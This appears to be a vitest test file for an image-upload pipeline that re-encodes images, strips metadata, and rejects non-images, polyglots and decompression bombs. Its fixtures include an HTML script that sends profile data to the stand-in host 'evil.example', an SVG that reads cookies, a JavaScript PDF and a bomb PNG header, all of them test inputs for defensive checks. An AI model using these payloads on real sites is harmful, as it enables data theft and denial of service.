import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import sharp from 'sharp';
import { afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { AppError } from '@/lib/http/errors';
import { LocalDiskStorage, newBlobKey, type BlobStorage } from '@/lib/storage/storage';
import { MAX_INPUT_PIXELS, MAX_UPLOAD_BYTES, processEvidenceFile, processImage, sniffImageType, storeProcessedImage } from './images';

// ---------------------------------------------------------------------------------------------------------------
// Fixtures, generated here with sharp and by hand.

const XMP = '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:xmp="http://ns.adobe.com/xap/1.0/" xmp:CreatorTool="XMP-SECRET"/></rdf:RDF></x:xmpmeta>';
const SECRETS = ['SECRET-AUTHOR', 'SECRET-CAMERA-SN', 'WGS-84-SECRET', 'XMP-SECRET', '<script', '%PDF'];

const solid = (width: number, height: number, channels: 3 | 4 = 3) =>
  sharp({ create: { width, height, channels, background: channels === 4 ? { r: 30, g: 90, b: 160, alpha: 0.5 } : { r: 200, g: 100, b: 50 } } });

/** A phone photo: 3000×2000 stored sideways (EXIF orientation 6), with camera, author and GPS EXIF, a P3 ICC profile and XMP. */
const phoneJpeg = () =>
  solid(3000, 2000)
    .jpeg({ quality: 90 })
    .withMetadata({ orientation: 6 })
    .withExifMerge({
      IFD0: { Artist: 'SECRET-AUTHOR', Make: 'Kiln', Model: 'Phone 9' },
      IFD2: { BodySerialNumber: 'SECRET-CAMERA-SN' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '29/1 17/1 32/1', GPSLongitudeRef: 'E', GPSLongitude: '117/1 12/1 41/1', GPSMapDatum: 'WGS-84-SECRET' },
    })
    .withIccProfile('p3')
    .withXmp(XMP)
    .toBuffer();

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([len, body, crc]);
}
const PNG_SIG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** Inserts a chunk right after IHDR (signature 8 bytes + IHDR 25 bytes). */
const withPngChunk = (png: Buffer, chunk: Buffer) => Buffer.concat([png.subarray(0, 33), chunk, png.subarray(33)]);

/** A tiny PNG whose header claims width×height (a decompression bomb needs no more than its header to be refused). */
function pngBombHeader(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // RGB
  return Buffer.concat([PNG_SIG, pngChunk('IHDR', ihdr), pngChunk('IDAT', zlib.deflateSync(Buffer.alloc(4096))), pngChunk('IEND', Buffer.alloc(0))]);
}

/** A JPEG with a COM (comment) segment right after SOI. */
const withJpegComment = (jpeg: Buffer, text: string) => {
  const payload = Buffer.from(text);
  const seg = Buffer.alloc(4);
  seg.writeUInt16BE(0xfffe, 0);
  seg.writeUInt16BE(payload.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), seg, payload, jpeg.subarray(2)]);
};

const HTML = '<!doctype html><html><body><script>fetch("/api/v1/me/profile").then(r=>r.text()).then(t=>location="//evil.example/?"+t)</script></body></html>';
const SVG = '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>';
const PDF = '%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n';

let fx: {
  jpeg: Buffer;
  png: Buffer;
  webp: Buffer;
  smallWebp: Buffer;
  gif: Buffer;
  avif: Buffer;
  tiff: Buffer;
};

beforeAll(async () => {
  const png = await solid(1200, 800, 4).png().toBuffer();
  fx = {
    jpeg: await phoneJpeg(),
    png: withPngChunk(png, pngChunk('tEXt', Buffer.from('Comment\0<script>alert(1)</script> SECRET-AUTHOR', 'latin1'))),
    webp: await solid(3600, 1200).webp().withExif({ IFD0: { Artist: 'SECRET-AUTHOR' } }).toBuffer(),
    smallWebp: await solid(200, 100).webp().toBuffer(),
    gif: await solid(20, 20).gif().toBuffer(),
    avif: await solid(64, 64).avif().toBuffer(),
    tiff: await solid(20, 20).tiff().toBuffer(),
  };
});

// ---------------------------------------------------------------------------------------------------------------

let tmp: string;
let storage: LocalDiskStorage;
beforeEach(() => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'jp-uploads-'));
  storage = new LocalDiskStorage(path.join(tmp, 'uploads'));
});
afterEach(() => {
  fs.rmSync(tmp, { recursive: true, force: true });
});

function storedFiles(): string[] {
  const dir = storage.root;
  if (!fs.existsSync(dir)) return [];
  return (fs.readdirSync(dir, { recursive: true, withFileTypes: true }) as fs.Dirent[]).filter((e) => e.isFile()).map((e) => e.name);
}

/** The upload flow a route would run: validate and re-encode, then store. */
const upload = async (bytes: Uint8Array) => storeProcessedImage(await processImage(bytes), storage);

async function rejection(p: Promise<unknown>): Promise<AppError> {
  const err = await p.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err, 'expected a rejection').toBeInstanceOf(AppError);
  return err as AppError;
}

const hasAny = (buf: Buffer, needles: string[]) => needles.filter((n) => buf.includes(Buffer.from(n)));

describe('sniffImageType (magic bytes only)', () => {
  it('recognises JPEG, PNG and WebP and nothing else', () => {
    expect(sniffImageType(fx.jpeg)).toBe('image/jpeg');
    expect(sniffImageType(fx.png)).toBe('image/png');
    expect(sniffImageType(fx.webp)).toBe('image/webp');
    for (const other of [fx.gif, fx.avif, fx.tiff, Buffer.from(HTML), Buffer.from(SVG), Buffer.from(PDF), Buffer.alloc(0)]) {
      expect(sniffImageType(other)).toBeNull();
    }
    expect(sniffImageType(Buffer.from('RIFF\x24\x00\x00\x00WAVEfmt ', 'latin1'))).toBeNull(); // a RIFF that is not WebP
    expect(sniffImageType(Buffer.from('RIFF\x24\x00\x00\x00WEBP', 'latin1'))).toBeNull(); // no VP8 chunk
    expect(sniffImageType(Buffer.from([0xff, 0xd8]))).toBeNull();
    expect(sniffImageType(PNG_SIG.subarray(0, 7))).toBeNull();
  });
});

describe('processImage: accepted images are re-encoded without metadata', () => {
  it('the fixture really carries EXIF with GPS, ICC and XMP', async () => {
    const meta = await sharp(fx.jpeg).metadata();
    expect(meta.exif).toBeDefined();
    expect(meta.icc).toBeDefined();
    expect(meta.xmp).toBeDefined();
    expect(meta.orientation).toBe(6);
    expect(meta.exif!.includes(Buffer.from('WGS-84-SECRET'))).toBe(true);
    expect(hasAny(fx.jpeg, ['SECRET-AUTHOR', 'SECRET-CAMERA-SN', 'WGS-84-SECRET', 'XMP-SECRET'])).toHaveLength(4);
    expect((await sharp(fx.webp).metadata()).exif).toBeDefined();
  });

  it('JPEG with EXIF/GPS: rotated upright, bounded to 2400 px, WebP, no EXIF/GPS/ICC/XMP left', async () => {
    const out = await processImage(fx.jpeg);
    expect(out.source).toEqual({ contentType: 'image/jpeg', width: 2000, height: 3000 });
    // Orientation 6 applied to the pixels: the 3000×2000 stored image is portrait.
    expect([out.main.width, out.main.height]).toEqual([1600, 2400]);
    expect([out.thumb.width, out.thumb.height]).toEqual([320, 480]);
    for (const v of [out.main, out.thumb]) {
      expect(v.contentType).toBe('image/webp');
      const meta = await sharp(v.bytes).metadata();
      expect(meta.format).toBe('webp');
      expect([meta.width, meta.height]).toEqual([v.width, v.height]);
      expect(meta.exif).toBeUndefined();
      expect(meta.icc).toBeUndefined();
      expect(meta.xmp).toBeUndefined();
      expect(meta.orientation).toBeUndefined();
      expect(hasAny(v.bytes, SECRETS)).toEqual([]);
      expect(hasAny(v.bytes, ['Exif', 'GPS', 'ICCP', 'XMP '])).toEqual([]);
    }
  });

  it('PNG with transparency and a tEXt comment: alpha kept, comment gone', async () => {
    expect(fx.png.includes(Buffer.from('<script>'))).toBe(true);
    const out = await processImage(fx.png);
    expect(out.source.contentType).toBe('image/png');
    expect([out.main.width, out.main.height]).toEqual([1200, 800]);
    expect([out.thumb.width, out.thumb.height]).toEqual([480, 320]);
    const meta = await sharp(out.main.bytes).metadata();
    expect(meta.format).toBe('webp');
    expect(meta.hasAlpha).toBe(true);
    expect(hasAny(out.main.bytes, SECRETS)).toEqual([]);
  });

  it('WebP with EXIF: bounded on the long edge and stripped', async () => {
    const out = await processImage(fx.webp);
    expect(out.source.contentType).toBe('image/webp');
    expect([out.main.width, out.main.height]).toEqual([2400, 800]);
    expect([out.thumb.width, out.thumb.height]).toEqual([480, 160]);
    expect((await sharp(out.main.bytes).metadata()).exif).toBeUndefined();
    expect(hasAny(out.main.bytes, SECRETS)).toEqual([]);
  });

  it('never enlarges a small image', async () => {
    const out = await processImage(fx.smallWebp);
    expect([out.main.width, out.main.height]).toEqual([200, 100]);
    expect([out.thumb.width, out.thumb.height]).toEqual([200, 100]);
  });

  it('can produce JPEG instead (alpha flattened) and honours custom edges', async () => {
    const out = await processImage(fx.png, { format: 'jpeg', maxEdge: 600, thumbEdge: 120 });
    expect(out.main.contentType).toBe('image/jpeg');
    expect(sniffImageType(out.main.bytes)).toBe('image/jpeg');
    expect([out.main.width, out.main.height]).toEqual([600, 400]);
    expect([out.thumb.width, out.thumb.height]).toEqual([120, 80]);
    const meta = await sharp(out.main.bytes).metadata();
    expect(meta.hasAlpha).toBe(false);
    expect(meta.exif).toBeUndefined();
    expect(meta.icc).toBeUndefined();
  });

  it('accepts a Uint8Array view as well as a Buffer', async () => {
    const view = new Uint8Array(fx.smallWebp.buffer, fx.smallWebp.byteOffset, fx.smallWebp.byteLength);
    expect((await processImage(view)).main.width).toBe(200);
  });

  it('neutralises polyglots: data appended after the image or hidden in a JPEG comment is not carried over', async () => {
    const jpeg = await solid(400, 300).jpeg().toBuffer();
    const variants = [
      Buffer.concat([jpeg, Buffer.from(HTML)]), // JPEG + HTML
      Buffer.concat([jpeg, Buffer.from(PDF)]), // JPEG + PDF ("polyglot PDF")
      withJpegComment(jpeg, HTML), // <script> in a COM segment
    ];
    for (const v of variants) {
      expect(hasAny(v, ['<script', '%PDF']).length).toBeGreaterThan(0);
      const out = await processImage(v);
      expect([out.main.width, out.main.height]).toEqual([400, 300]);
      expect(hasAny(out.main.bytes, SECRETS)).toEqual([]);
      expect(hasAny(out.thumb.bytes, SECRETS)).toEqual([]);
    }
  });
});

describe('processImage: attacks are rejected and nothing is stored', () => {
  const cases: [string, () => Buffer, AppError['code'], string][] = [
    ['HTML renamed .jpg', () => Buffer.from(HTML), 'VALIDATION_FAILED', 'validation.fileType'],
    ['HTML with a BOM and leading whitespace', () => Buffer.from(`\ufeff  ${HTML}`), 'VALIDATION_FAILED', 'validation.fileType'],
    ['SVG with <script>', () => Buffer.from(SVG), 'VALIDATION_FAILED', 'validation.fileType'],
    ['GIF', () => fx.gif, 'VALIDATION_FAILED', 'validation.fileType'],
    ['AVIF (a real image, but not on the allow-list)', () => fx.avif, 'VALIDATION_FAILED', 'validation.fileType'],
    ['TIFF', () => fx.tiff, 'VALIDATION_FAILED', 'validation.fileType'],
    ['PDF', () => Buffer.from(PDF), 'VALIDATION_FAILED', 'validation.fileType'],
    ['ZIP archive', () => Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(200)]), 'VALIDATION_FAILED', 'validation.fileType'],
    ['JPEG magic followed by HTML', () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from(HTML)]), 'VALIDATION_FAILED', 'validation.imageUnreadable'],
    ['PNG signature followed by HTML', () => Buffer.concat([PNG_SIG, Buffer.from(HTML)]), 'VALIDATION_FAILED', 'validation.imageUnreadable'],
    ['WebP header followed by junk', () => Buffer.concat([Buffer.from('RIFF\xff\x00\x00\x00WEBPVP8 ', 'latin1'), Buffer.from(HTML)]), 'VALIDATION_FAILED', 'validation.imageUnreadable'],
    ['truncated JPEG', () => fx.jpeg.subarray(0, Math.floor(fx.jpeg.length / 2)), 'VALIDATION_FAILED', 'validation.imageUnreadable'],
    ['PNG bomb header (20000×20000 = 400 MP)', () => pngBombHeader(20_000, 20_000), 'VALIDATION_FAILED', 'validation.imageTooLarge'],
    ['PNG just over the pixel cap', () => pngBombHeader(8000, 5001), 'VALIDATION_FAILED', 'validation.imageTooLarge'],
    ['empty file', () => Buffer.alloc(0), 'VALIDATION_FAILED', 'validation.fileEmpty'],
    ['10 MB + 1 byte', () => Buffer.concat([fx.jpeg, Buffer.alloc(MAX_UPLOAD_BYTES + 1 - fx.jpeg.length)]), 'PAYLOAD_TOO_LARGE', 'validation.fileTooLarge'],
    ['50 MB', () => Buffer.alloc(50 * 1024 * 1024, 0xff), 'PAYLOAD_TOO_LARGE', 'validation.fileTooLarge'],
  ];

  it.each(cases)('%s', async (_name, make, code, key) => {
    const err = await rejection(upload(make()));
    expect(err.code).toBe(code);
    expect(err.options.fieldErrors).toEqual({ file: [key] });
    expect(err.status).toBe(code === 'PAYLOAD_TOO_LARGE' ? 413 : 400);
    if (code === 'PAYLOAD_TOO_LARGE') expect(err.options.detailKey).toBe('validation.fileTooLarge');
    expect(storedFiles()).toEqual([]);
  });

  it('the pixel cap is 40 MP and the size cap exactly 10 MB', async () => {
    expect(MAX_INPUT_PIXELS).toBe(40_000_000);
    expect(MAX_UPLOAD_BYTES).toBe(10 * 1024 * 1024);
    // Exactly 10 MB passes the size check (and then fails as an image, since it is padding).
    const atLimit = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(MAX_UPLOAD_BYTES - 3)]);
    expect((await rejection(processImage(atLimit))).code).toBe('VALIDATION_FAILED');
    // 8000×5000 is exactly 40 MP: refused only for being an unreadable stub, not for its size.
    const err = await rejection(processImage(pngBombHeader(8000, 5000)));
    expect(err.options.fieldErrors).toEqual({ file: ['validation.imageUnreadable'] });
  });
});

describe('storeProcessedImage', () => {
  it('stores main and thumbnail under fresh UUID keys with their content types', async () => {
    const stored = await upload(fx.jpeg);
    expect(stored.main.key).not.toBe(stored.thumb.key);
    for (const v of [stored.main, stored.thumb]) {
      expect(v.key).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
      const blob = await storage.get(v.key);
      expect(blob!.contentType).toBe('image/webp');
      expect(blob!.size).toBe(v.size);
      expect((await sharp(Buffer.from(blob!.body as Uint8Array)).metadata()).width).toBe(v.width);
    }
    // The names on disk are the keys (and their metadata), nothing the user supplied.
    expect(storedFiles().sort()).toEqual([stored.main.key, `${stored.main.key}.json`, stored.thumb.key, `${stored.thumb.key}.json`].sort());
  });

  it('removes the main image again when storing the thumbnail fails', async () => {
    let puts = 0;
    const flaky: BlobStorage = {
      put: (key, bytes, meta) => (++puts === 2 ? Promise.reject(new Error('disk full')) : storage.put(key, bytes, meta)),
      get: (key) => storage.get(key),
      delete: (key) => storage.delete(key),
      exists: (key) => storage.exists(key),
    };
    await expect(storeProcessedImage(await processImage(fx.smallWebp), flaky)).rejects.toThrow('disk full');
    expect(storedFiles()).toEqual([]);
    expect(await storage.exists(newBlobKey())).toBe(false);
  });
});

describe('processEvidenceFile', () => {
  it('accepts images, keeps more resolution for legibility, strips metadata', async () => {
    const scan = await solid(4000, 3000).jpeg().withExif({ IFD0: { Artist: 'SECRET-AUTHOR' } }).toBuffer();
    const out = await processEvidenceFile(scan);
    expect([out.main.width, out.main.height]).toEqual([3200, 2400]);
    expect([out.thumb.width, out.thumb.height]).toEqual([480, 360]);
    expect((await sharp(out.main.bytes).metadata()).exif).toBeUndefined();
    expect(hasAny(out.main.bytes, SECRETS)).toEqual([]);
  });

  it('rejects PDF, HTML and SVG', async () => {
    for (const bad of [PDF, HTML, SVG]) {
      const err = await rejection(processEvidenceFile(Buffer.from(bad)));
      expect(err.options.fieldErrors).toEqual({ file: ['validation.fileType'] });
    }
  });
});
